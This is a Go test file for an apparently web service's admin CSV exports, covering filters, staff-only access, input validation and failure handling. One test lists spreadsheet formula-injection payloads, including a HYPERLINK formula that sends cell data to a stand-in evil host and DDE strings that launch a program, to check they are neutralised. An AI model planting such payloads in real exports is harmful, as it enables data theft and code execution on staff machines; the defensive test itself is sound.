package main

import (
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"capiconnect/models"
)

// export follows an export's link and reads what comes: the head and the rows.
func (b *bundle) export(t *testing.T, path string, headers ...string) (head []string, rows [][]string) {
	t.Helper()
	got := b.send(t, http.MethodGet, path, "", headers...)
	want(t, got, http.StatusOK)
	if name := got.Header.Get("Content-Disposition"); !regexp.MustCompile(`^attachment; filename="(audit|businesses|datasets|onboardings)-\d{4}-\d\d-\d\d\.csv"$`).MatchString(name) {
		t.Errorf("it would be kept as %s", name)
	}
	text, isMarked := strings.CutPrefix(got.body, byteOrderMark)
	if !isMarked {
		t.Error("a spreadsheet would not know the alphabet")
	}
	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(all) == 0 {
		t.Fatalf("%v in %.200s", err, text)
	}
	return all[0], all[1:]
}

// column is what the rows have under a head.
func column(t *testing.T, head []string, rows [][]string, name string) (values []string) {
	t.Helper()
	for place, is := range head {
		if is != name {
			continue
		}
		for _, row := range rows {
			values = append(values, row[place])
		}
		return values
	}
	t.Fatalf("there is no %q in %q", name, head)
	return nil
}

// clients adds 250 businesses with a dataset each, of which every tenth needs to connect again. One dataset belongs to all of them.
func (b *bundle) clients(t *testing.T) {
	t.Helper()
	b.execute(t, `INSERT INTO businesses (id, meta_id, name, status, problem_code, problem_since, connected_at, created_at)
		SELECT gen_random_uuid(), n::text, 'Business ' || n, CASE WHEN n % 10 = 0 THEN 'NEEDS_RECONNECT' ELSE 'CONNECTED' END,
			CASE WHEN n % 10 = 0 THEN 'TOKEN_REVOKED' END, CASE WHEN n % 10 = 0 THEN now() END, now() - n % 7 * interval '1 day', now()
		FROM generate_series(1, 250) n`)
	b.execute(t, `INSERT INTO datasets (id, meta_id, name, last_fired_at, is_unavailable, seen_at)
		SELECT gen_random_uuid(), n::text, CASE WHEN n > 250 THEN 'Shared by all' ELSE 'Dataset ' || n END, now() - n * interval '1 day', n = 3, now()
		FROM generate_series(1, 251) n`)
	b.execute(t, `INSERT INTO business_datasets (business_id, relation, dataset_id, sort_name)
		SELECT b.id, 'OWNED', d.id, d.sort_name FROM businesses b JOIN datasets d USING (meta_id) UNION ALL
		SELECT b.id, 'SHARED', d.id, d.sort_name FROM businesses b JOIN datasets d ON d.meta_id = '251'`)
}

func TestAnExportHoldsTheWholeList(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.clients(t)
	cookie := b.signedIn(t, "ada@example.com")
	for path, count := range map[string]int{
		"businesses.csv":                          250,
		"businesses.csv?status=NEEDS_RECONNECT":   25,
		"businesses.csv?attention=yes":            25,
		"businesses.csv?q=business+11":            11, // 11, and 110 to 119
		"businesses.csv?status=DEGRADED":          0,
		"datasets.csv":                            251,
		"datasets.csv?relation=shared":            1,
		"datasets.csv?unavailable=yes":            1,
		"datasets.csv?silent=200":                 51,
		"datasets.csv?silent=200&relation=shared": 1,
	} {
		head, rows := b.export(t, "/admin/export/"+path, "Cookie", cookie)
		ids := map[string]bool{}
		for _, id := range column(t, head, rows, "Id") {
			ids[id] = true
		}
		if len(rows) != count || len(ids) != count {
			t.Errorf("%s: %d rows of %d; want %d", path, len(rows), len(ids), count)
		}
	}
	head, rows := b.export(t, "/admin/export/businesses.csv?q=business+110", "Cookie", cookie)
	for name, value := range map[string]string{"Owned datasets": "1", "Shared datasets": "1", "Status": "NEEDS_RECONNECT", "What to do": "Have the client connect again."} {
		if got := column(t, head, rows, name); len(got) != 1 || got[0] != value {
			t.Errorf("%s: %q; want %q", name, got, value)
		}
	}
	head, rows = b.export(t, "/admin/export/datasets.csv?q=shared", "Cookie", cookie)
	if got := column(t, head, rows, "Businesses"); len(got) != 1 || got[0] != "250" {
		t.Errorf("of one dataset %q businesses are told", got)
	}
}

// A client names its business so that a spreadsheet runs something when staff open the export: a formula that sends what is in the cells
// elsewhere, or starts a program.
func TestAnExportRunsNothing(t *testing.T) {
	t.Parallel()
	b := setup(t)
	cookie := b.signedIn(t, "ada@example.com")
	attacks := []string{
		`=HYPERLINK("https://evil.example/?"&A1)`, "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠A1",
		`harmless;=cmd|'/C calc'!A0`, "harmless; +1", "two lines\n=1+1", `","=1+1`, "\x01=1",
	}
	for i, name := range attacks {
		b.execute(t, `INSERT INTO businesses (id, meta_id, name, external_id, status, connected_at, created_at) VALUES (gen_random_uuid(), $1, $2, $2, 'CONNECTED', now(), now())`, strconv.Itoa(i), name)
	}
	head, rows := b.export(t, "/admin/export/businesses.csv", "Cookie", cookie)
	if len(rows) != len(attacks) {
		t.Fatalf("%d rows", len(rows))
	}
	for _, row := range rows {
		for i, cell := range row {
			for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return r == ';' || r == '\n' || r == '\r' }) {
				if first := strings.TrimLeft(part, " "); first != "" && strings.ContainsAny(first[:1], "=+-@\t\x01") || strings.HasPrefix(first, "＝") ||
					strings.HasPrefix(first, "＋") || strings.HasPrefix(first, "－") || strings.HasPrefix(first, "＠") {
					t.Errorf("%s: a spreadsheet would run %q", head[i], cell)
				}
			}
		}
	}
	for _, name := range []string{"Harbour & Pine Coffee", "Müller-Lüdenscheidt", "a=b", "3 - 2", "O'Neill; Sons"} {
		if got := harmless([]string{name})[0]; got != name {
			t.Errorf("%q was changed to %q", name, got)
		}
	}
}

func TestTheAuditAndOnboardingsAreExportedAsTheyAreNarrowed(t *testing.T) {
	t.Parallel()
	b := setup(t)
	cookie := b.signedIn(t, "ada@example.com")
	b.execute(t, `INSERT INTO audit_events (id, at, actor_kind, actor_name, action, subject_kind, subject_id, after, request_id)
		SELECT gen_random_uuid(), '2026-11-22T09:00:00Z'::timestamptz + n * interval '1 second', 'API_KEY', CASE WHEN n % 2 = 0 THEN '=2+3' ELSE 'partner' END,
			'business: erased', 'business', gen_random_uuid(), '{"reason": "left"}', 'r-' || n FROM generate_series(1, 250) n`)
	head, rows := b.export(t, "/admin/export/audit.csv?action=business%3A+erased&since=2026-11-22T09:00:11Z", "Cookie", cookie)
	if got := column(t, head, rows, "Request id"); len(got) != 240 || got[0] != "r-250" || got[239] != "r-11" {
		t.Errorf("%d rows, from %q", len(got), got[0])
	}
	if got := column(t, head, rows, "Who"); got[0] != "'=2+3" || got[1] != "partner" {
		t.Errorf("who: %q", got[:2])
	}
	if got := column(t, head, rows, "After"); got[0] != `{"reason":"left"}` {
		t.Errorf("after: %q", got[0])
	}

	b.clients(t)
	b.execute(t, `INSERT INTO onboardings (id, status, business_id, config_id, support_code, tries_left, created_by, created_at, expires_at, completed_at)
		SELECT gen_random_uuid(), 'COMPLETED', id, '1', 'CODE-' || meta_id, 1, 'test', now(), now(), now() FROM businesses`)
	head, rows = b.export(t, "/admin/export/onboardings.csv?status=COMPLETED&q=Business+7", "Cookie", cookie)
	if got := column(t, head, rows, "Business"); len(got) != 11 { // 7, 70 to 79
		t.Errorf("%q", got)
	}
	if _, rows = b.export(t, "/admin/export/onboardings.csv?status=OPEN", "Cookie", cookie); len(rows) != 0 {
		t.Errorf("%d that wait", len(rows))
	}
}

// Whoever is not signed in as staff is told nothing, whatever else they hold.
func TestExportsAreForStaff(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.clients(t)
	cookie := b.signedIn(t, "ada@example.com")
	for name, c := range map[string]struct {
		headers []string
		status  int
	}{
		"nobody":                  {nil, http.StatusSeeOther},
		"an invented session":     {[]string{"Cookie", sessionCookie + "=invented"}, http.StatusSeeOther},
		"a key":                   {[]string{"Authorization", "Bearer " + b.apiKey(t)}, http.StatusSeeOther},
		"an onboarding token":     {[]string{"Authorization", "Bearer " + b.onboardingToken(t, nil)}, http.StatusSeeOther},
		"staff by another method": {[]string{"Cookie", cookie}, http.StatusMethodNotAllowed},
	} {
		method := http.MethodGet
		if c.status == http.StatusMethodNotAllowed {
			method = http.MethodPost
		}
		for list, screen := range map[string]string{"audit": "activity?view=audit", "businesses": "businesses", "datasets": "datasets", "onboardings": "activity"} {
			got := b.send(t, method, "/admin/export/"+list+".csv", "", c.headers...)
			if want(t, got, c.status); strings.Contains(got.body, "Business 1") || strings.Contains(got.body, "Dataset") {
				t.Errorf("%s was told %.200s", name, got.body)
			}
			if to := got.Header.Get("Location"); c.status == http.StatusSeeOther && to != "/admin/sign-in?return=/admin/"+screen {
				t.Errorf("%s is led to %s", name, to)
			}
		}
	}
	b.execute(t, "UPDATE users SET disabled_at = now()")
	want(t, b.send(t, http.MethodGet, "/admin/export/businesses.csv", "", "Cookie", cookie), http.StatusSeeOther)
}

func TestWhatAnExportCannotBeNarrowedByIsRefused(t *testing.T) {
	t.Parallel()
	b := setup(t)
	cookie := b.signedIn(t, "ada@example.com")
	for _, filter := range []string{"businesses.csv?q=" + strings.Repeat("x", 201), "businesses.csv?q=%00", "datasets.csv?silent=0", "datasets.csv?silent=x", "datasets.csv?silent=99999",
		"onboardings.csv?business=1", "onboardings.csv?since=yesterday", "audit.csv?subject=x", "audit.csv?until=2026-11-22", "audit.csv?by=" + strings.Repeat("x", 201)} {
		got := b.send(t, http.MethodGet, "/admin/export/"+filter, "", "Cookie", cookie)
		if want(t, got, http.StatusBadRequest); !strings.Contains(got.body, "INVALID_INPUT") {
			t.Errorf("%s: %s", filter, got.body)
		}
	}
}

// serving has e answer with a list whose pages next makes, for the session in cookie.
func (b *bundle) serving(t *testing.T, next func(context.Context) (*exportPage, error)) (address string) {
	t.Helper()
	s := site{draining: t.Context(), log: slog.New(slog.DiscardHandler), now: b.clock.now, store: b.store}
	callers := &authenticator{log: s.log, now: s.now, rates: newRates(clientBehind(nil)), sameOrigin: http.NewCrossOriginProtection(), sessions: newSessions(b.store, b.clock.now, clientBehind(nil), false), store: b.store}
	list := exportList{name: "list", head: []string{"Name"}, page: func(ctx context.Context, _ url.Values, _ models.Paging) (*exportPage, error) { return next(ctx) }}
	server := httptest.NewServer(newExports(s, callers).of(list))
	t.Cleanup(server.Close)
	return server.URL
}

func get(t *testing.T, address, cookie string) *http.Response {
	t.Helper()
	request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, address, nil)
	if err != nil {
		t.Fatal(err)
	}
	request.Header.Set("Cookie", cookie)
	response, err := http.DefaultTransport.RoundTrip(request)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = response.Body.Close() })
	return response
}

// The database goes away in the middle. What came so far must not pass for the whole list.
func TestAnExportThatBreaksOffIsNoWholeList(t *testing.T) {
	t.Parallel()
	b := setup(t)
	cookie, pages := b.signedIn(t, "ada@example.com"), 0
	address := b.serving(t, func(context.Context) (*exportPage, error) {
		if pages++; pages > 2 {
			return nil, models.ErrUnavailable
		}
		return &exportPage{rows: [][]string{{strings.Repeat("a long name ", 1000)}}, next: new("on")}, nil // long enough to be on its way
	})
	response := get(t, address, cookie)
	if body, err := io.ReadAll(response.Body); err == nil {
		t.Errorf("got %d and, as if it were whole, %.100q", response.StatusCode, body)
	}
	if response := get(t, address, cookie); response.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("when it is away from the beginning: %d", response.StatusCode)
	}
}

func TestFewExportsAtATime(t *testing.T) {
	t.Parallel()
	b := setup(t)
	cookie, begun, goOn := b.signedIn(t, "ada@example.com"), make(chan struct{}), make(chan struct{})
	address := b.serving(t, func(context.Context) (*exportPage, error) {
		begun <- struct{}{}
		<-goOn
		return &exportPage{}, nil
	})
	answers := make(chan int)
	for range maxExports {
		go func() { answers <- get(t, address, cookie).StatusCode }()
		<-begun
	}
	if got := get(t, address, cookie); got.StatusCode != http.StatusServiceUnavailable || got.Header.Get("Retry-After") == "" {
		t.Errorf("one more than there may be: %d", got.StatusCode)
	}
	close(goOn)
	for range maxExports {
		if status := <-answers; status != http.StatusOK {
			t.Errorf("one of those that were first: %d", status)
		}
	}
}
